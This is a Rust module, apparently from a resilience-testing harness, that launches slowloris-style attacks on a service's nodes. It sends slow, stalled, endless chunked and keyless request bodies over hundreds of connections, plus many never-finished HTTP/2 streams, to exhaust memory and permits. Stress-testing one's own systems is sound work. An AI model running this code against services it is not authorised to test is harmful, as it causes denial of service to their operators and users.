//! Bodies that hold memory or permits of a node for as long as possible: sent slowly, stopped half-way, endless, many
//! on one connection, and without a key.

use super::context::Attack;
use crate::raw;
use bytes::Bytes;
use futures::future::join_all;
use std::time::{Duration, Instant};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    time::{sleep, timeout},
};
use tokio_tungstenite::tungstenite::http::Request;

/// The largest allowed body, in bytes.
const LARGE: usize = 1 << 20;
/// The number of connections for each way of sending, over all nodes.
const CROWD: usize = 300;
const CROWD_WHEN_SHORT: usize = 60;
/// The number of HTTP/2 connections, and of bodies on each: as many as a node lets a client send at once.
const SHARED: usize = 24;
const STREAMS: usize = 64;
/// Bytes that are sent at once, and the pause after them: a megabyte takes six seconds.
const PIECE: usize = 16 << 10;
const PAUSE: Duration = Duration::from_millis(100);
/// An answer that does not come in this time never comes.
const PATIENCE: Duration = Duration::from_secs(20);

/// How a body is sent.
#[derive(Clone, Copy)]
enum BodyKind {
    Slowly,
    Stalled,
    Keyless,
    Endless,
}

pub(super) async fn send(attack: &Attack) {
    let crowd = attack.most(CROWD, CROWD_WHEN_SHORT);
    let ways = [BodyKind::Slowly, BodyKind::Stalled, BodyKind::Keyless, BodyKind::Endless];
    let each = ways.iter().flat_map(|way| (0..crowd).map(move |number| again(attack, *way, number)));
    let shared = (0..attack.most(SHARED, 4)).map(|number| shared(attack, number));
    tokio::join!(join_all(each), join_all(shared));
}

/// One connection after the other.
async fn again(attack: &Attack, way: BodyKind, number: usize) {
    while Instant::now() < attack.end(1.0) {
        attack.sent();
        match once(attack, way, number).await {
            Some(status) => attack.answered(status),
            None => attack.answered("cut off"),
        }
        sleep(PAUSE).await;
    }
}

/// The status of the answer.
async fn once(attack: &Attack, way: BodyKind, number: usize) -> Option<String> {
    let target = attack.target();
    let url = &target.urls[number % target.urls.len()];
    let key = Some(target.members[number % target.members.len()].as_str());
    let path = attack.path("/features");
    let length = |bytes: usize| format!("Content-Length: {bytes}\r\n");
    let first = match way {
        BodyKind::Slowly | BodyKind::Stalled => raw::head("POST", &path, key, &length(LARGE)),
        BodyKind::Keyless => raw::head("POST", "/auth/register", None, &length(16_000)),
        BodyKind::Endless => raw::head("POST", &path, key, "Transfer-Encoding: chunked\r\n"),
    };
    let stream = raw::connect(url, first.as_bytes()).await?;
    let (mut read, mut write) = stream.into_split();
    let answer = async {
        let mut status = [0; 12];
        read.read_exact(&mut status).await.ok()?;
        Some(String::from_utf8_lossy(&status[9..]).into_owned())
    };
    let body = async {
        pieces(&mut write, way).await;
        // No further bytes are sent. The node answers now.
        std::future::pending::<()>().await;
    };
    tokio::select! {
        answer = timeout(PATIENCE, answer) => answer.ok()?,
        () = body => None,
    }
}

async fn pieces(write: &mut (impl AsyncWriteExt + Unpin), way: BodyKind) {
    let piece = vec![b' '; PIECE];
    match way {
        BodyKind::Keyless => {
            let _ = write.write_all(b"{").await;
        }
        BodyKind::Stalled => {
            for _ in 0..LARGE / PIECE - 1 {
                if write.write_all(&piece).await.is_err() {
                    return;
                }
            }
        }
        BodyKind::Slowly => {
            for _ in 0..LARGE / PIECE {
                if write.write_all(&piece).await.is_err() {
                    return;
                }
                sleep(PAUSE).await;
            }
        }
        BodyKind::Endless => {
            let chunk = [format!("{PIECE:x}\r\n").as_bytes(), &piece, b"\r\n"].concat();
            while write.write_all(&chunk).await.is_ok() {
                sleep(PAUSE).await;
            }
        }
    }
}

/// Sends as many bodies on one HTTP/2 connection as the node allows, and ends none of them.
async fn shared(attack: &Attack, number: usize) {
    attack.again_and_again(PAUSE, || shared_once(attack, number)).await;
}

async fn shared_once(attack: &Attack, number: usize) -> Option<()> {
    let target = attack.target();
    let stream = TcpStream::connect(raw::addr(&target.urls[number % target.urls.len()])).await.ok()?;
    let (mut requests, connection) = h2::client::handshake(stream).await.ok()?;
    let speaking = tokio::spawn(connection);
    let mut open = Vec::new();
    for at in 0..STREAMS {
        requests = requests.ready().await.ok()?;
        let key = &target.members[at % target.members.len()];
        let request = Request::post(format!("http://localhost/api{}", attack.path("/features")))
            .header("authorization", format!("Bearer {key}"))
            .header("content-type", "application/json")
            .body(())
            .ok()?;
        let (answer, mut body) = requests.send_request(request, false).ok()?;
        attack.sent();
        // Only as much as the node's window allows is sent: the rest waits in this process.
        body.send_data(Bytes::from(vec![b' '; LARGE / 2]), false).ok()?;
        open.push(async move {
            let _body = body;
            answer.await.ok().map(|answer| answer.status().as_u16())
        });
    }
    let answers = timeout(PATIENCE, join_all(open)).await.unwrap_or_default();
    for status in answers.into_iter().flatten() {
        attack.answered(status);
    }
    speaking.abort();
    Some(())
}
